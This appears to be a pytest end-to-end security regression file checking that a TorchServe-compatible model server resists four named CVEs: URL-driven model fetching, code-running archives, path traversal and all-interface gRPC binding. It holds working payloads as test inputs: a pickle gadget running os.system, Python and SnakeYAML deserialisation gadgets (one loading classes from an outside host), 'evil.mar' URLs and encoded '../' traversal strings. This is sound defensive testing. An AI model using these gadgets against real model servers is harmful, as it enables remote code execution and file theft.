"""Known faults of the servers that Fleetcast can stand in for (TorchServe, Multi Model Server), tried on a real server.

Advisories: CVE-2023-43654 (GHSA-8fxr-qfr9-p34w), CVE-2022-1471 (GHSA-mjmj-j48q-9wg2), CVE-2024-35198
(GHSA-wxcx-gg9c-fwp2), CVE-2024-35199 (GHSA-hhpg-v63p-wp7w). SECURITY.md has a row for each.
"""

import io
import json
import os
import pickle
import re
import socket
import struct
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.archives import make_zip, repack
from tests.e2e.models import pack_forecaster
from tests.e2e.server import Server, run_server
from tests.http_servers import serve_on_thread
from tests.patience import PATIENCE_S
from tests.processes import list_descriptors
from tests.s3 import S3Server

pytestmark = pytest.mark.e2e

SOUND = pack_forecaster("sound.mar", 1)
LISTENS = "0A"  #: the state in /proc/net/tcp


@contextmanager
def listen_as_stranger() -> Iterator[tuple[str, list[Any]]]:
    """A host that the server must never call: its address, and who connected to it."""
    called: list[Any] = []

    class Host(ThreadingHTTPServer):
        def verify_request(self, _: Any, client_address: Any) -> bool:
            called.append(client_address)
            return True

    with serve_on_thread(Host(("127.0.0.1", 0), BaseHTTPRequestHandler)) as place:
        yield place, called


def ask_raw(address: str, head: str) -> int:
    """The status of a request that is sent as it is written: other clients would tidy its path."""
    host, _, port = address.removeprefix("http://").rpartition(":")
    with socket.create_connection((host, int(port)), PATIENCE_S) as sock:
        sock.sendall(f"{head}\r\nHost: {host}:{port}\r\nContent-Length: 2\r\n\r\n{{}}".encode())
        with sock.makefile("rb") as reply:
            return int(reply.readline().split()[1])


def ask_verbs(server: Server, name: str) -> set[int]:
    """What the management verbs answer to a name in their path. That the header of an invocation has it is 400 always:
    SageMaker's ValidationError is for names that cannot be, and for models that are not there.
    """
    assert server.post(name).status_code == 400
    verbs = ("load", "reload", "pin")
    return {ask_raw(server.addresses["management"], f"POST /fleet/{verb}/{name} HTTP/1.1") for verb in verbs}


@pytest.fixture(scope="module")
def house(s3: S3Server, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Two fronts and two workers with a store that holds nothing; a sound archive lies beside its folder."""
    folder = tmp_path_factory.mktemp("house")
    (folder / "models" / "au").mkdir(parents=True)
    (folder / "outside.mar").write_bytes(SOUND.data)
    with run_server(s3, folder, str(folder / "models"), workers=2, fronts=2) as server:
        yield server


def test_no_request_makes_the_server_call_another_host(house: Server) -> None:
    """CVE-2023-43654: TorchServe fetched models and workflows from any URL that a request named.

    A model is registered from the one store alone, and a name that looks like a URL is a key of it.
    """
    with listen_as_stranger() as (host, called):
        for path in ("models", "workflows"):
            for address in (house.addresses["management"], house.url):
                url = f"{path}?url=http://{host}/evil.mar&initial_workers=1"
                assert ask_raw(address, f"POST /{url} HTTP/1.1") in (400, 404, 405)
        for scheme in ("http", "https", "s3", "file", "ftp"):
            assert ask_verbs(house, f"{scheme}://{host}/evil.mar") == {400}
            assert ask_verbs(house, f"{scheme}:{host}/evil.mar") == {404}
        assert called == []
        assert house.resident() == set()


def test_no_archive_runs_code_when_it_is_read(s3: S3Server, tmp_path: Path) -> None:
    """CVE-2022-1471: TorchServe read archives' YAML by SnakeYAML, which makes objects of any class that the text names.

    Neither that text, nor its like for Python, nor a pickle, nor a handler is run: each archive is refused.
    """
    models, ran = tmp_path / "models", tmp_path / "ran"
    models.mkdir()

    class Gadget:
        def __reduce__(self) -> tuple[Any, tuple[str]]:
            return os.system, (f"touch {ran}",)

    spec = {**json.loads(read_member(SOUND.data, "fleetcast.json")), "weights": {"file": "weights.safetensors"}}
    python = f'!!python/object/apply:os.system ["touch {ran}"]'.encode()
    with listen_as_stranger() as (host, called):
        java = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/"]]]]'
        archives = {
            "workflow.war": make_zip({
                "WAR-INF/MANIFEST.json": b'{"workflow": {"workflowName": "w", "specFile": "s.yaml"}}',
                "s.yaml": java.encode(),
            }),
            "java.mar": make_zip({"fleetcast.json": java.encode()}),
            "python.mar": make_zip({"fleetcast.json": python}),
            "config.mar": repack(SOUND.data, fleetcast_json=json.dumps(spec | {"config": python.decode()}).encode()),
            "pickle.mar": repack(
                SOUND.data,
                weights_safetensors=pickle.dumps(Gadget()),
                fleetcast_json=json.dumps(spec).encode(),
            ),
            "handler.mar": make_zip({
                "MAR-INF/MANIFEST.json": b'{"model": {"modelName": "m", "handler": "h.py"}}',
                "h.py": f"import os; os.system('touch {ran}')".encode(),
            }),
        }  # fmt: skip
        for name, data in {**archives, SOUND.name: SOUND.data}.items():
            (models / name).write_bytes(data)
        with run_server(s3, tmp_path, str(models)) as server:
            for name in archives:
                assert server.fleet("load", name).status_code == 422, name
                assert 400 <= server.post(name).status_code < 500, name
            server.ask(SOUND.question(0))
            assert server.resident() == {SOUND.name}
        assert not ran.exists()
        assert called == []
        pickle.loads(pickle.dumps(Gadget()))
        assert ran.exists(), "the gadget works where pickles are read"


def read_member(archive: bytes, name: str) -> bytes:
    """One member of a zip."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return opened.read(name)


def test_dots_lead_to_no_other_archive_at_the_first_request_nor_the_second(house: Server) -> None:
    """CVE-2024-35198: a URL with `..` was refused by TorchServe's allow-list and yet downloaded, so that its file name
    was served when it was asked again.

    A sound archive lies beside the store's folder. No spelling of the way there is served, at the first request nor at
    the second, and its plain name is not known afterwards.
    """
    plain = ("../outside.mar", "au/../../outside.mar", "./../outside.mar", "au/../outside.mar", "..\\outside.mar")
    for _ in range(2):
        for name in plain:
            assert ask_verbs(house, name) == {400}, name
        for name in ("%2e%2e/outside.mar", "%2e%2e%2foutside.mar", "au/%2E%2E/%2e./outside.mar"):
            assert ask_verbs(house, name) == {400}, name
        assert ask_verbs(house, "outside.mar") == {404}
    assert house.resident() == set()
    assert not any(row["pinned"] for row in house.models().values())


def test_by_default_nothing_listens_beyond_loopback(house: Server) -> None:
    """CVE-2024-35199: TorchServe's gRPC ports were bound to all interfaces whatever the HTTP addresses were.

    The kernel's tables say that the server's processes listen at loopback alone, and only where it is announced.
    """
    found = {place for pid in house.survivors() for place in list_listeners(pid)}
    assert found == {tuple(url.removeprefix("http://").rsplit(":", 1)) for url in house.addresses.values()}
    assert {host for host, _ in found} == {"127.0.0.1"}


def list_listeners(pid: int) -> Iterator[tuple[str, str]]:
    """Address and port of every listening TCP socket, IPv4 or IPv6, that the process holds."""
    held = {found[1] for _, target in list_descriptors(pid) if (found := re.fullmatch(r"socket:\[(\d+)\]", target))}
    for table, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            _, local, _, state, *_, inode = line.split()[:10]
            if state == LISTENS and inode in held:
                address, port = local.split(":")
                words = [struct.pack("=I", int(address[at : at + 8], 16)) for at in range(0, len(address), 8)]
                yield socket.inet_ntop(family, b"".join(words)), str(int(port, 16))
